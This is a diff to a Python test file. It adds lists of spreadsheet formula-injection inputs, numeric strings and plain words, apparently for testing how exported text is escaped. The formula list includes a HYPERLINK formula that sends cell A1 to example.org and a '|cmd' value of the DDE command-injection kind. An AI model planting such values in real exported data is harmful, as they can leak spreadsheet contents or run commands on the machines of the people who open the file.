@@ -12,6 +12,31 @@ from sklearn.datasets import dump_svmlight_file
 
 from ellzero.cli.main import main
 
+FORMULAS = [
+    "=HYPERLINK(1)",
+    '=HYPERLINK("http://example.org?x="&A1,"click")',
+    "+1+1",
+    "-2+3|cmd",
+    "-",
+    "+",
+    "@SUM(1;2)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "＝1+1",
+    "-1,5",
+    "-1e5x",
+    "'=1",
+    "''@x",
+]
+"""Text that a spreadsheet would run."""
+
+NUMBERS = ["-1.5", "+1", "-1e-07", "+.5", "-2."]
+"""Text that a spreadsheet takes for a number."""
+
+WORDS = ["a", "1=1", "'quoted'", "a\nb", 'say "x"', "x;=1", "x,y", "", " =1", "no-yes", "ab@c.de"]
+"""Text that is neither."""
+
 
 def numbers(rng, m=60, n=6):
     """y depends on x1 and x4 alone."""
